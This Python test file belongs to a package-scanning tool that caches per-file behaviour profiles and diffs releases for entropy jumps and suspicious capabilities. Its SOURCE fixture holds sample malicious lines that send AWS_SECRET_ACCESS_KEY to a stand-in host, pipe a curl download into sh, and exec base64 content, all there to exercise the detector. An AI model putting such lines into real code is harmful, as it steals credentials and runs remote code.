"""Per-file analysis results kept by content: a kept profile is the profile the analysis
makes, and a diff made from kept profiles is the diff made without them."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import zipfile
from pathlib import Path

import pytest

from tests.helpers.corpus import BASE, BENIGN, MALICIOUS, Variant
from tests.helpers.dists import build_sdist, build_wheel
from verify._behaviour import diff_side, profile_cache, scanning
from verify._behaviour.cache import ANALYSER_VERSION
from verify._behaviour.capabilities import file_kind, profile_file
from verify._behaviour.diff import DistFile, diff_distributions
from verify._behaviour.profile import FileProfile
from verify._behaviour.profile_cache import KEPT_FROM, ProfileCache
from verify._behaviour.result import BehaviourDiff
from verify._checks.typosquat import PopularNames
from verify._dist.archive import Archive

POPULAR = PopularNames.load()

#: A module that does enough to have capabilities, hosts and findings, padded past KEPT_FROM.
SOURCE = (
    b"import base64, os, subprocess, urllib.request\n"
    b"TOKEN = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
    b"urllib.request.urlopen('https://collect.example/x', data=TOKEN.encode())\n"
    b"subprocess.Popen(['sh', '-c', 'curl https://dl.example/a | sh'])\n"
    b"exec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n" + b"# padding\n" * (KEPT_FROM // 10)
)


def _profile(path: str = "pkg/mod.py", data: bytes = SOURCE) -> FileProfile:
    return profile_file(path, data)


def test_a_kept_profile_reads_back_equal(tmp_path: Path) -> None:
    cache = ProfileCache(tmp_path)
    profile = _profile()
    # The round trip carries every part.
    assert profile.capabilities
    assert profile.hosts
    key = cache.key("pkg/mod.py", SOURCE, loads_at_install=False, called_on_import=frozenset())
    assert cache.get(key) is None
    cache.put(key, profile)
    assert cache.get(key) == profile


def test_the_key_names_everything_the_analysis_reads() -> None:
    def key(
        path: str = "pkg/mod.py",
        data: bytes = SOURCE,
        install: bool = False,
        called: frozenset[str] = frozenset(),
    ) -> str:
        return ProfileCache.key(path, data, loads_at_install=install, called_on_import=called)

    keys = {
        key(),
        key(path="pkg/other.py"),
        key(data=SOURCE + b"\n"),
        key(install=True),
        key(called=frozenset({"run"})),
        key(called=frozenset({"run", "go"})),
    }
    assert len(keys) == 6
    assert key(called=frozenset({"go", "run"})) == key(called=frozenset({"run", "go"}))


def test_only_parsed_files_worth_it_are_kept(tmp_path: Path) -> None:
    cache = ProfileCache(tmp_path)
    small = b"print('hi')\n"
    native = b"\x7fELF\x02\x01\x01" + b"\0" * KEPT_FROM
    assert not cache.worth_keeping("pkg/small.py", small)
    assert not cache.worth_keeping("pkg/lib.so", native)
    assert cache.worth_keeping("pkg/mod.py", SOURCE)
    for path, data in (("pkg/small.py", small), ("pkg/lib.so", native)):
        key = cache.key(path, data, loads_at_install=False, called_on_import=frozenset())
        cache.put(key, profile_file(path, data))
        assert cache.get(key) is None
    assert not list(tmp_path.rglob("*.json"))


@pytest.mark.parametrize(
    "content",
    ["not json", "[]", '{"format": "0"}', '{"format": "%s", "path": "x"}'],
)
def test_an_unusable_record_is_discarded(tmp_path: Path, content: str) -> None:
    cache = ProfileCache(tmp_path)
    key = cache.key("pkg/mod.py", SOURCE, loads_at_install=False, called_on_import=frozenset())
    cache.put(key, _profile())
    (record,) = tmp_path.rglob("*.json")
    record.write_text(content.replace("%s", ANALYSER_VERSION))
    assert cache.get(key) is None
    assert not record.exists()


def _pairs(tmp_path: Path) -> list[tuple[str, DistFile, DistFile]]:
    pairs = []
    variants: tuple[Variant, ...] = (*MALICIOUS, *BENIGN)
    for variant in variants:
        for form in variant.forms:
            build = build_wheel if form == "wheel" else build_sdist
            where = tmp_path / "dists" / f"{variant.id}-{form}"
            old = build(BASE, where / "old")
            new = build(variant.build(), where / "new")
            pairs.append((f"{variant.id}-{form}", DistFile(new, new.name), DistFile(old, old.name)))
    return pairs


def test_diffs_from_kept_profiles_are_the_diffs_made_without_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every pair of the synthetic corpus, with every parsed file kept (the size floor set
    to nothing): the diffs made while filling the cache, and made again from it, equal the
    diffs made without one, and the second time no parsed file is analysed."""
    monkeypatch.setattr(profile_cache, "KEPT_FROM", 0)
    cache = ProfileCache(tmp_path / "profiles")
    analysed: list[tuple[str, str]] = []
    real = profile_file

    def counting(path: str, data: bytes, **flags: object) -> FileProfile:
        analysed.append((path, file_kind(path, data)))
        return real(path, data, **flags)  # type: ignore[arg-type]

    monkeypatch.setattr(diff_side, "profile_file", counting)
    for what, new, old in _pairs(tmp_path):
        plain = diff_distributions(new, old, popular=POPULAR)
        analysed.clear()
        filled = diff_distributions(new, old, popular=POPULAR, profiles=cache)
        assert filled == plain, what
        analysed.clear()
        again = diff_distributions(new, old, popular=POPULAR, profiles=cache)
        assert again == plain, what
        assert [path for path, kind in analysed if kind not in ("native", "data")] == [], what
    assert list((tmp_path / "profiles").rglob("*.json"))


def test_a_kept_profile_serves_another_release(tmp_path: Path) -> None:
    """The file a release shares with the next one is analysed once for both diffs."""
    spec = dataclasses.replace(BASE, files={**BASE.files, "tinyweb/big.py": SOURCE.decode()})
    newer = dataclasses.replace(spec, version="1.2")
    old = build_wheel(spec, tmp_path / "a")
    new = build_wheel(newer, tmp_path / "b")
    cache = ProfileCache(tmp_path / "profiles")
    first = diff_distributions(DistFile(new, new.name), None, popular=POPULAR, profiles=cache)
    kept = sorted((tmp_path / "profiles").rglob("*.json"))
    assert kept
    # The older release, analysed alone, finds its big module already profiled: no record is
    # added, and its findings for that module are the newer release's.
    second = diff_distributions(DistFile(old, old.name), None, popular=POPULAR, profiles=cache)
    assert sorted((tmp_path / "profiles").rglob("*.json")) == kept
    assert {(f.rule, f.path, f.line) for f in first.findings if f.path == "tinyweb/big.py"} == {
        (f.rule, f.path, f.line) for f in second.findings if f.path == "tinyweb/big.py"
    }


def _entropy_jump(tmp_path: Path) -> tuple[DistFile, DistFile]:
    """Two wheels whose module ``tinyweb/table.py`` goes from plain code to a dense literal."""
    plain = "".join(f"VALUE_{i} = {i}\n" for i in range(1200))
    # Reproducible bytes with the spread of an encoded payload; not a secret.
    noise = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(1200))
    dense = "".join(
        f"CHUNK_{i} = {base64.b85encode(noise[i * 24 : i * 24 + 24]).decode()!r}\n"
        for i in range(1200)
    )
    old_spec = dataclasses.replace(BASE, files={**BASE.files, "tinyweb/table.py": plain})
    new_spec = dataclasses.replace(
        old_spec, version="1.1", files={**BASE.files, "tinyweb/table.py": dense}
    )
    old = build_wheel(old_spec, tmp_path / "old")
    new = build_wheel(new_spec, tmp_path / "new")
    return DistFile(new, new.name), DistFile(old, old.name)


def _jumps(diff: BehaviourDiff) -> list[str]:
    return [f.message for f in diff.findings if f.rule == "profile-jump"]


def test_entropy_is_measured_only_where_two_versions_of_a_file_are_compared(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A first upload compares nothing, so no file's entropy is measured; a changed file's
    jump in entropy is still reported, also when its profile was kept by a first upload that
    did not measure it."""
    new, old = _entropy_jump(tmp_path)
    measured: list[int] = []
    real = scanning.entropy

    def counting(data: bytes | str) -> float:
        measured.append(len(data))
        return real(data)

    monkeypatch.setattr(scanning, "entropy", counting)
    cache = ProfileCache(tmp_path / "profiles")
    diff_distributions(new, None, popular=POPULAR, profiles=cache)
    diff_distributions(old, None, popular=POPULAR, profiles=cache)
    assert measured == []
    # Made from the kept, unmeasured profiles of both files, and made without any: the same.
    from_kept = diff_distributions(new, old, popular=POPULAR, profiles=cache)
    assert measured, "the changed module's entropy was not measured"
    plain = diff_distributions(new, old, popular=POPULAR)
    assert from_kept == plain
    jumps = _jumps(plain)
    assert len(jumps) == 1
    assert jumps[0].startswith("tinyweb/table.py: entropy ")
    before, after = (
        float(v) for v in jumps[0].split("entropy ")[1].split(" bits")[0].split(" -> ")
    )
    assert after - before > 1.0
    assert after > 5.0


def test_entropy_is_measured_for_the_kinds_whose_shape_is_compared(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A changed extension module's entropy is never compared, so never measured; a file that
    was data and became a shell script is compared, its old version measured whatever it was."""
    noise = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(2000))
    script = "#!/bin/sh\n" + "".join(
        f"P{i}={base64.b85encode(noise[i * 24 : i * 24 + 24]).decode()!r}\n" for i in range(1000)
    )
    elf = b"\x7fELF" + b"\x02\x01\x01" + bytes(9)
    # Eight byte values, NUL among them: data of 3 bits a byte.
    old_files = {**BASE.files, "tinyweb/tool": "\x00abcdefg" * 512, "tinyweb/_speed.so": ""}
    old_spec = dataclasses.replace(BASE, files=old_files)
    new_files = {**BASE.files, "tinyweb/tool": script, "tinyweb/_speed.so": ""}
    new_spec = dataclasses.replace(BASE, version="1.1", files=new_files)
    old = build_wheel(old_spec, tmp_path / "old")
    new = build_wheel(new_spec, tmp_path / "new")
    for path, spec_data in ((old, elf + noise[:3000]), (new, elf + noise[3000:6000])):
        _replace_member(path, "tinyweb/_speed.so", spec_data)
    measured: list[bytes | str] = []
    real = scanning.entropy

    def counting(data: bytes | str) -> float:
        measured.append(data)
        return real(data)

    monkeypatch.setattr(scanning, "entropy", counting)
    diff = diff_distributions(DistFile(new, new.name), DistFile(old, old.name), popular=POPULAR)
    assert "tinyweb/_speed.so" in diff.files.changed
    assert all(not bytes(d).startswith(elf) for d in measured if isinstance(d, bytes))
    jumps = _jumps(diff)
    assert len(jumps) == 1
    assert jumps[0].startswith("tinyweb/tool: entropy 3.0 -> ")


def _replace_member(wheel: Path, name: str, data: bytes) -> None:
    """Rewrite ``wheel`` with ``name`` holding ``data`` (RECORD is left as it is: the diff
    compares the members' bytes, and a RECORD mismatch is a separate finding)."""
    with zipfile.ZipFile(wheel) as archive:
        members = [
            (info, data if info.filename == name else archive.read(info))
            for info in archive.infolist()
        ]
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, content in members:
            archive.writestr(info, content)


def test_the_old_entropy_is_measured_only_where_it_can_change_the_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A changed module whose new version stays plain (under 5 bits a byte, no long line) can
    make no profile-jump whatever the old one was: only the new one is measured. One that
    becomes dense, or whose longest line jumps, has both measured and quoted."""
    plain = "".join(f"VALUE_{i} = {i}\n" for i in range(1200))
    longer = "".join(f"VALUE_{i} = {i * 7}\n" for i in range(1200))
    minified = "TABLE = [" + ", ".join(str(i) for i in range(1200)) + "]\n"
    cases = {"tinyweb/table.py": (plain, longer), "tinyweb/packed.py": (plain, minified)}
    old_spec = dataclasses.replace(
        BASE, files={**BASE.files, **{path: old for path, (old, _) in cases.items()}}
    )
    new_spec = dataclasses.replace(
        old_spec,
        version="1.1",
        files={**BASE.files, **{path: new for path, (_, new) in cases.items()}},
    )
    old = build_wheel(old_spec, tmp_path / "old")
    new = build_wheel(new_spec, tmp_path / "new")
    measured: list[bytes] = []
    real = scanning.entropy

    def counting(data: bytes | str) -> float:
        measured.append(data if isinstance(data, bytes) else data.encode())
        return real(data)

    monkeypatch.setattr(scanning, "entropy", counting)
    diff = diff_distributions(DistFile(new, new.name), DistFile(old, old.name), popular=POPULAR)
    assert {"tinyweb/table.py", "tinyweb/packed.py"} <= set(diff.files.changed)
    assert longer.encode() in measured
    assert minified.encode() in measured
    # The old version of both is the same text: measured once, for the line jump only.
    assert measured.count(plain.encode()) == 1
    jumps = _jumps(diff)
    assert len(jumps) == 1
    assert jumps == [
        f"tinyweb/packed.py: entropy {real(plain):.1f} -> {real(minified):.1f} bits/byte, "
        f"longest line {len('VALUE_1199 = 1199')} -> {len(minified.rstrip()):,} characters"
    ]


def test_a_dense_new_version_has_its_old_one_read_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When the new version alone says the old entropy decides the finding, the old version
    is measured as it is first read, not read again for it."""
    new, old = _entropy_jump(tmp_path)
    reads: list[tuple[str, str]] = []
    real = Archive.read

    def counting(archive: Archive, path: str) -> bytes:
        reads.append((archive.path.name, path))
        return real(archive, path)

    monkeypatch.setattr(Archive, "read", counting)
    diff = diff_distributions(new, old, popular=POPULAR)
    assert len(_jumps(diff)) == 1
    assert reads.count((old.path.name, "tinyweb/table.py")) == 1
    assert reads.count((new.path.name, "tinyweb/table.py")) == 1
